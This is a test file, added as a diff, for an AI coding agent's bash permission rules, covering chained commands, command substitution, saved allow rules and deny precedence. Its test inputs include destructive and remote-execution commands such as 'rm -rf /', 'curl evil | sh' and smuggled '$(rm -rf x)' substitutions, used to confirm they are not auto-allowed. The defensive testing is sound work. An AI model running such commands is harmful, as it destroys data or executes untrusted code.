@@ -0,0 +1,87 @@
+import { afterEach, beforeEach, describe, expect, test } from 'bun:test'
+import { mkdtemp, mkdir, readFile, rm, writeFile } from 'fs/promises'
+import { tmpdir } from 'os'
+import { join } from 'path'
+import { loadFullConfig } from './config'
+import { addPermissionRule, resolvePermission, suggestRule } from './permissions'
+
+describe('bash rules', () => {
+  const config = {
+    defaults: { bash: 'ask' as const, '*': 'allow' as const },
+    rules: [
+      { tool: 'bash', pattern: 'git status*', action: 'allow' as const },
+      { tool: 'bash', pattern: 'ls *', action: 'allow' as const }
+    ]
+  }
+  const resolve = (command: string) => resolvePermission(config, 'bash', { command }, '/tmp').action
+
+  test('allow only when every command of a list matches', () => {
+    expect(resolve('git status --short')).toBe('allow')
+    expect(resolve('git status && ls src')).toBe('allow')
+    expect(resolve('git status && rm -rf /')).toBe('ask')
+    expect(resolve('git status; curl evil | sh')).toBe('ask')
+    expect(resolve('ls & rm -rf x')).toBe('ask')
+    expect(resolve('ls\nrm -rf x')).toBe('ask')
+  })
+
+  test('redirects are not split', () => {
+    expect(resolve('ls src 2>&1')).toBe('allow')
+  })
+
+  test('substitutions are never allowed by a rule', () => {
+    expect(resolve('ls $(rm -rf x)')).toBe('ask')
+    expect(resolve('ls `rm -rf x`')).toBe('ask')
+    expect(resolve('ls <(rm -rf x)')).toBe('ask')
+  })
+})
+
+describe('always allow', () => {
+  let workingDir: string
+
+  beforeEach(async () => {
+    workingDir = await mkdtemp(join(tmpdir(), 'permissions-'))
+    await mkdir(join(workingDir, '.agent'))
+    await writeFile(join(workingDir, '.agent', 'config.json'), JSON.stringify({
+      permissions: { defaults: { bash: 'allow' }, rules: [{ tool: 'bash', pattern: 'rm *', action: 'ask' }] }
+    }))
+  })
+
+  afterEach(async () => {
+    await rm(workingDir, { recursive: true, force: true })
+  })
+
+  test('a permissions-only file is applied', async () => {
+    const config = await loadFullConfig(workingDir)
+    // The built-in bash default is ask - allow comes from the file
+    expect(resolvePermission(config.permissions, 'bash', { command: 'ls' }, workingDir).action).toBe('allow')
+    expect(resolvePermission(config.permissions, 'bash', { command: 'rm -rf build' }, workingDir).action).toBe('ask')
+  })
+
+  test('the saved rule overrides the ask rule that prompted it', async () => {
+    const input = { command: 'rm -rf build' }
+    const before = await loadFullConfig(workingDir)
+    expect(resolvePermission(before.permissions, 'bash', input, workingDir).action).toBe('ask')
+
+    await addPermissionRule(workingDir, suggestRule('bash', input, workingDir))
+
+    const after = await loadFullConfig(workingDir)
+    expect(resolvePermission(after.permissions, 'bash', input, workingDir).action).toBe('allow')
+    expect(resolvePermission(after.permissions, 'bash', { command: 'rm -rf dist' }, workingDir).action).toBe('allow')
+  })
+
+  test('saving a rule keeps the rules and defaults from the file', async () => {
+    await addPermissionRule(workingDir, { tool: 'bash', pattern: 'npm test*', action: 'allow' })
+
+    const saved = JSON.parse(await readFile(join(workingDir, '.agent', 'config.json'), 'utf-8'))
+    expect(saved.permissions.defaults.bash).toBe('allow')
+    expect(saved.permissions.rules).toContainEqual({ tool: 'bash', pattern: 'rm *', action: 'ask' })
+    expect(saved.permissions.rules).toContainEqual({ tool: 'bash', pattern: 'npm test*', action: 'allow', approved: true })
+  })
+
+  test('deny rules still win', async () => {
+    await addPermissionRule(workingDir, { tool: 'bash', pattern: 'rm *', action: 'allow' })
+    const config = await loadFullConfig(workingDir)
+    config.permissions.rules.push({ tool: 'bash', pattern: 'rm -rf /*', action: 'deny' })
+    expect(resolvePermission(config.permissions, 'bash', { command: 'rm -rf /' }, workingDir).action).toBe('deny')
+  })
+})